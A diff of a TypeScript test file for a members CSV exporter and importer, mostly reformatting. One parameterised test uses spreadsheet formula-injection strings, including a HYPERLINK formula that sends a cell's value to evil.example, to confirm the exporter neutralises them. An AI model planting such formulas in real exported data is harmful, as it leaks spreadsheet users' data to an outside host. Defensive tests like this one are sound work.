@@ -1,6 +1,6 @@
 import { parse } from "csv-parse/sync";
 import { describe, expect, it } from "vitest";
-import { toCsv } from "../../platform/csv";
+import { toCsv } from "~/platform/csv";
 import { applicationCsvRow, checkImportHeader, checkImportRow, memberCsvHeader, memberCsvTemplate } from "./member-csv";
 
 const now = new Date("2026-03-01T12:00:00Z");
@@ -12,7 +12,19 @@ describe("the members CSV", () => {
     const checked = checkImportRow(row(), now);
     expect(checked).toMatchObject({
       ok: true,
-      input: { name: "Dr. Ana Reyes", email: "ana@example.org", schoolName: "SUNY Upstate Medical University", graduationYear: 2019, step1: "passed", step1Date: "2016-06-01", step3: "not-taken", specialties: ["Family medicine", "Pediatrics"], workStates: ["NY", "PA"], primaryCareUnderserved: true, consentStatistics: true },
+      input: {
+        name: "Dr. Ana Reyes",
+        email: "ana@example.org",
+        schoolName: "SUNY Upstate Medical University",
+        graduationYear: 2019,
+        step1: "passed",
+        step1Date: "2016-06-01",
+        step3: "not-taken",
+        specialties: ["Family medicine", "Pediatrics"],
+        workStates: ["NY", "PA"],
+        primaryCareUnderserved: true,
+        consentStatistics: true,
+      },
     });
   });
 
@@ -36,8 +48,14 @@ describe("the members CSV", () => {
   });
 
   it("forgives the way spreadsheets write choices: case, spaces and empty optional columns", () => {
-    const checked = checkImportRow(row({ degree: "do", citizenship: "Permanent Resident", training_status: "Left residency", step1: "Passed", step3: "", ecfmg_certified: "", consent_statistics: "" }), now);
-    expect(checked).toMatchObject({ ok: true, input: { degree: "DO", citizenship: "permanent-resident", trainingStatus: "left-residency", step1: "passed", step3: "not-taken", ecfmgCertified: "no", consentStatistics: false } });
+    const checked = checkImportRow(
+      row({ degree: "do", citizenship: "Permanent Resident", training_status: "Left residency", step1: "Passed", step3: "", ecfmg_certified: "", consent_statistics: "" }),
+      now,
+    );
+    expect(checked).toMatchObject({
+      ok: true,
+      input: { degree: "DO", citizenship: "permanent-resident", trainingStatus: "left-residency", step1: "passed", step3: "not-taken", ecfmgCertified: "no", consentStatistics: false },
+    });
   });
 
   it("names the required columns a file lacks, and the ones it does not know", () => {
@@ -50,7 +68,12 @@ describe("the members CSV", () => {
     if (!checked.ok) throw new Error("template row rejected");
     const i = checked.input;
     const exported = applicationCsvRow({
-      ...i, state: "NY", decision: "eligible", status: "approved", createdAt: now, verifiedAt: null,
+      ...i,
+      state: "NY",
+      decision: "eligible",
+      status: "approved",
+      createdAt: now,
+      verifiedAt: null,
       exams: { step1: { result: i.step1, date: i.step1Date }, step2ck: { result: i.step2ck, date: i.step2ckDate } },
     });
     expect(exported).toHaveLength(memberCsvHeader.length);
@@ -67,7 +90,12 @@ describe("the members CSV and spreadsheet formulas", () => {
     const checked = { ...template, input: { ...template.input, ...stored } };
     const i = checked.input;
     const exported = applicationCsvRow({
-      ...i, state: "NY", decision: "eligible", status: "approved", createdAt: now, verifiedAt: null,
+      ...i,
+      state: "NY",
+      decision: "eligible",
+      status: "approved",
+      createdAt: now,
+      verifiedAt: null,
       exams: { step1: { result: i.step1, date: i.step1Date }, step2ck: { result: i.step2ck, date: i.step2ckDate } },
     });
     const file = toCsv([memberCsvHeader, exported]);
@@ -76,11 +104,11 @@ describe("the members CSV and spreadsheet formulas", () => {
   };
 
   it.each([
-    ["=", "=HYPERLINK(\"https://evil.example/?leak=\"&A2,\"Open\")"],
+    ["=", '=HYPERLINK("https://evil.example/?leak="&A2,"Open")'],
     ["+", "+1 Medical School"],
     ["-", "-Dr. Minus"],
     ["@", "@SUM(A1:A2)"],
-    ["a full-width =", "\uFF1DHYPERLINK(\"https://evil.example\")"],
+    ["a full-width =", '\uFF1DHYPERLINK("https://evil.example")'],
   ])("neutralises a name and a school starting with %s, and imports them back unchanged", (_char, text) => {
     const { checked, file, record, again } = exportedAndReadBack({ name: text, schoolName: text });
     expect(file).toContain(`"'${text.replace(/"/g, '""')}"`);
@@ -102,7 +130,13 @@ describe("my data as CSV", () => {
     const { personalDataCsvRows } = await import("./member-csv");
     const rows = personalDataCsvRows({
       account: { email: "ana@example.org", roles: ["member"] },
-      application: { zip: "13202", exams: { step1: { result: "passed", date: "2016-06-01" } }, specialties: ["Family medicine", "Pediatrics"], reasons: [{ message: "We need Step 2 CK passed." }], verifiedAt: null },
+      application: {
+        zip: "13202",
+        exams: { step1: { result: "passed", date: "2016-06-01" } },
+        specialties: ["Family medicine", "Pediatrics"],
+        reasons: [{ message: "We need Step 2 CK passed." }],
+        verifiedAt: null,
+      },
       matchCycles: [{ year: 2021, amountSpent: 9100 }],
     });
     expect(rows).toEqual([
